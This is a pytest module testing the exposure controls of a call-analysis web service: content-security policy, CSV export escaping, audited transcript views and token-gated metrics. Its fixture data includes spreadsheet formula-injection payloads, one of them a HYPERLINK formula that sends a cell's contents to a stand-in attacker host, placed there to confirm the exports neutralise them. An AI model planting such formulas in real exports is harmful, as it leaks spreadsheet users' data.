"""What the service shows, and to whom, over HTTP (the ASGI app in-process, real PostgreSQL): no page loads a
script from elsewhere, the CSV exports cannot run formulas, a call is "viewed" only by the person's own
doing, and /metrics and the details of /readyz need the scrape token."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from callsense.calls.models import Event
from callsense.config import Settings
from callsense.pipeline import tasks
from callsense.runtime import Runtime, open_runtime
from callsense.security import tokens
from callsense.security.tokens import Role
from callsense.server import create_app
from callsense.web import accounts
from tests.conftest import _fresh_database
from tests.dashboard_seed import SEEDS, seed

PASSWORD = "correct horse battery"
LOCAL = "http://127.0.0.1"
SCRAPE_TOKEN = "prometheus-scrape-token"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
    "+1 415 555 0100 asked for a callback",
    "-2 stars: billing",
    "@SUM(1+1)",
    "\tTabbed complaint",
    "\rCarriage return topic",
]


@pytest.fixture(scope="module")
def rt(embedded_server_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runtime]:
    for url in _fresh_database(embedded_server_url):
        data_dir: Path = tmp_path_factory.mktemp("exposure")
        settings = Settings(data_dir=data_dir, database_url=url, metrics={"token": SCRAPE_TOKEN})
        runtime = open_runtime(settings)
        steered = [  # topics the LLM wrote from what callers said
            dataclasses.replace(SEEDS[1], call_id=f"steered-{n}", topic=topic, delivery=None)
            for n, topic in enumerate(FORMULAS)
        ]
        seed(runtime, [SEEDS[0], *steered])
        with runtime.db.transaction() as session:
            for role in Role:
                accounts.create_user(session=session, username=role.value, role=role, password=PASSWORD)
        yield runtime
        runtime.db.close()


@pytest.fixture(scope="module")
def app(rt: Runtime) -> Iterator[FastAPI]:
    application = create_app(rt, tasks.build_app(rt), worker_concurrency=0)
    with TestClient(application, base_url=LOCAL):  # runs the lifespan once for the module
        yield application


def _signed_in(app: FastAPI, username: str) -> TestClient:
    client = TestClient(app, base_url=LOCAL, follow_redirects=False)
    form = client.get("/app/sign-in").text
    token = re.search(r'name="signin_token" value="([^"]+)"', form)
    assert token is not None
    signed = client.post(
        "/app/sign-in",
        data={"username": username, "password": PASSWORD, "signin_token": token[1], "next": "/app/calls"},
    )
    assert signed.status_code == 303
    return client


def _views(rt: Runtime, kind: str = "transcript_viewed") -> int:
    with rt.db.transaction() as session:
        return (
            session.scalar(
                select(func.count())
                .select_from(Event)
                .where(Event.kind == kind, Event.actor == "user:analyst")
            )
            or 0
        )


# --- no third-party script -------------------------------------------------------------------------------

SAMPLE_PARAMETERS = {"call_id": "demo-refund", "name": "topics", "delivery_id": str(uuid.uuid4())}
TAG = re.compile(r"<(script|link|img|iframe)\b[^>]*>", re.IGNORECASE)
# A path parameter's converter ("{name:path}"), which str.format would read as a format spec.
CONVERTER = re.compile(r"\{(\w+):\w+\}")
REFERENCE = re.compile(r"""\b(?:src|href)\s*=\s*["']?([^"'\s>]+)""", re.IGNORECASE)


def _get_paths(routes: list[Any], prefix: str = "") -> Iterator[str]:
    """Every GET path of the app; FastAPI keeps an included router behind a wrapper of its own."""
    for route in routes:
        included = getattr(route, "original_router", None)
        if included is not None:
            yield from _get_paths(included.routes, prefix + route.include_context.prefix)
        elif "GET" in (getattr(route, "methods", None) or set()):
            yield prefix + CONVERTER.sub(r"{\1}", route.path)


def test_no_page_the_service_serves_loads_anything_from_another_site(app: FastAPI, rt: Runtime) -> None:
    with rt.db.transaction() as session:
        admin = tokens.create(session=session, name="surface-admin", role=Role.admin)
    client = _signed_in(app, "admin")  # the dashboard's cookie and the API's token: every route answers
    client.headers["Authorization"] = f"Bearer {admin}"
    client.headers["Sec-Fetch-Site"] = "same-origin"
    pages = 0
    for template in _get_paths(app.routes):
        path = template.format(**SAMPLE_PARAMETERS)
        response = client.get(path)
        if not response.headers.get("content-type", "").startswith("text/html"):
            continue
        pages += 1
        for tag in TAG.finditer(response.text):
            for target in REFERENCE.findall(tag.group(0)):
                assert target.startswith("/") and not target.startswith("//"), (path, tag.group(0))
        assert "default-src 'self'" in response.headers.get("content-security-policy", ""), path
    assert pages >= 5  # the dashboard's pages were among them
    assert client.get("/docs").status_code == 404 and client.get("/redoc").status_code == 404
    assert client.get("/openapi.json").json()["info"]["title"] == "callsense"


# --- CSV exports -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("chart", ["topics", "topic_sentiment"])
def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(app: FastAPI, chart: str) -> None:
    response = _signed_in(app, "viewer").get(f"/app/insights/{chart}.csv")
    assert response.status_code == 200
    topics = [row[0] for row in csv.reader(io.StringIO(response.text, newline=""))][1:]
    assert sorted(topics) == sorted(["Duplicate charge refund", *("'" + topic for topic in FORMULAS)])


# --- transcript views only by the person's own doing ------------------------------------------------------


def test_a_cross_site_navigation_neither_shows_nor_audits_the_transcript(app: FastAPI, rt: Runtime) -> None:
    client = _signed_in(app, "analyst")
    before, streamed = _views(rt), _views(rt, "audio_streamed")
    for fetch_site in ("cross-site", "same-site"):
        page = client.get("/app/calls/demo-refund", headers={"Sec-Fetch-Site": fetch_site})
        assert page.status_code == 200 and "Duplicate charge refund" in page.text  # the analysis is shown
        assert "Sarah Miller" not in page.text and "<audio" not in page.text
        assert "Show the transcript and recording" in page.text
        audio = client.get("/app/calls/demo-refund/audio", headers={"Sec-Fetch-Site": fetch_site})
        assert audio.status_code == 403
    assert _views(rt) == before and _views(rt, "audio_streamed") == streamed
    forged = client.get("/app/calls/demo-refund", params={"confirm": "0" * 64})
    assert "Sarah Miller" not in forged.text and _views(rt) == before


@pytest.mark.parametrize("fetch_site", ["same-origin", "none"])
def test_opening_a_call_from_the_dashboard_or_a_typed_url_shows_and_audits_it(
    app: FastAPI, rt: Runtime, fetch_site: str
) -> None:
    client = _signed_in(app, "analyst")
    before = _views(rt)
    page = client.get("/app/calls/demo-refund", headers={"Sec-Fetch-Site": fetch_site})
    assert "Sarah Miller" in page.text and _views(rt) == before + 1


def test_a_browser_without_fetch_metadata_shows_the_transcript_after_one_click(
    app: FastAPI, rt: Runtime
) -> None:
    client = _signed_in(app, "analyst")
    before, streamed = _views(rt), _views(rt, "audio_streamed")
    held = client.get("/app/calls/demo-refund")  # no Sec-Fetch-Site header at all
    assert "Sarah Miller" not in held.text and _views(rt) == before
    link = re.search(r'href="(/app/calls/demo-refund\?confirm=[0-9a-f]+)"', held.text)
    assert link is not None
    shown = client.get(link[1])
    assert "Sarah Miller" in shown.text and _views(rt) == before + 1
    player = re.search(r'<audio[^>]* src="([^"]+)"', shown.text)
    assert player is not None and "confirm=" in player[1]
    audio = client.get(player[1], headers={"Range": "bytes=0-9"})
    assert audio.status_code == 206 and _views(rt, "audio_streamed") == streamed + 1
    # The link opens this call in this session only.
    other_call = client.get(link[1].replace("demo-refund", "steered-0"))
    other_session = _signed_in(app, "analyst").get(link[1])
    for held_again in (other_call, other_session):
        assert "Show the transcript and recording" in held_again.text


# --- /metrics and /readyz --------------------------------------------------------------------------------


def test_metrics_and_readiness_details_need_the_scrape_token(app: FastAPI, rt: Runtime) -> None:
    client = TestClient(app, base_url=LOCAL)
    with rt.db.transaction() as session:
        api_admin = tokens.create(session=session, name="not-a-scraper", role=Role.admin)
    assert client.get("/healthz").json() == {"status": "ok"}
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Bearer {api_admin}"}):
        refused = client.get("/metrics", headers=headers)
        assert refused.status_code == 401 and refused.headers["www-authenticate"] == "Bearer"
        assert "callsense_calls" not in refused.text
        assert client.get("/readyz", headers=headers).json() == {"status": "ready"}
    scraper = {"Authorization": f"Bearer {SCRAPE_TOKEN}"}
    scraped = client.get("/metrics", headers=scraper)
    assert scraped.status_code == 200 and 'callsense_calls{status="done"} 7.0' in scraped.text
    assert client.get("/readyz", headers=scraper).json()["checks"]["database"] == "ok"


def test_without_a_scrape_token_set_nobody_reads_the_metrics(rt: Runtime) -> None:
    unset = open_runtime(rt.settings.model_copy(update={"metrics": type(rt.settings.metrics)()}))
    try:
        client = TestClient(create_app(unset, tasks.build_app(unset)), base_url=LOCAL)
        assert client.get("/metrics", headers={"Authorization": "Bearer "}).status_code == 401
        assert client.get("/metrics", headers={"Authorization": f"Bearer {SCRAPE_TOKEN}"}).status_code == 401
        assert client.get("/readyz").json() == {"status": "ready"}
    finally:
        unset.db.close()


# --- the OpenAPI document --------------------------------------------------------------------------------

UNKNOWN_PARAMETERS = {"call_id": "no-such-call", "name": "no-such-category", "delivery_id": str(uuid.uuid4())}
# Bodies that pass validation, so that a refusal is about the caller or the id (extra keys are ignored).
ANY_BODY = {"question": "Was a refund offered?", "reason": "case 1", "rule": {"said": ["refund"]}}


def test_every_refusal_of_the_api_is_in_its_openapi_document(app: FastAPI, rt: Runtime) -> None:
    """Integrators generate clients from /openapi.json: each route behind a token documents the answers
    to a missing token, a role below its own and an unknown id, as it gives them."""
    with rt.db.transaction() as session:
        viewer = tokens.create(session=session, name="openapi-viewer", role=Role.viewer)
        admin = tokens.create(session=session, name="openapi-admin", role=Role.admin)
    client = TestClient(app, base_url=LOCAL)
    document = client.get("/openapi.json").json()
    answered: set[int] = set()
    for template, operations in document["paths"].items():
        for method, operation in operations.items():
            if "security" not in operation:  # webhooks, health, readiness and metrics: their own checks
                continue
            documented = {int(code) for code in operation["responses"]}
            path = template.format(**UNKNOWN_PARAMETERS)
            callers = [{}, {"Authorization": f"Bearer {viewer}"}]
            if method != "put":  # an admin's PUT creates the category
                callers.append({"Authorization": f"Bearer {admin}"})
            for headers in callers:
                answer = client.request(
                    method, path, headers=headers, params={"reason": "case 1"}, json=ANY_BODY
                )
                if answer.status_code in {401, 403, 404}:
                    answered.add(answer.status_code)
                    assert answer.status_code in documented, (method, template, answer.status_code)
    assert answered == {401, 403, 404}
    for path, refused in (("/metrics", 401), ("/readyz", 503)):
        assert str(refused) in document["paths"][path]["get"]["responses"], path
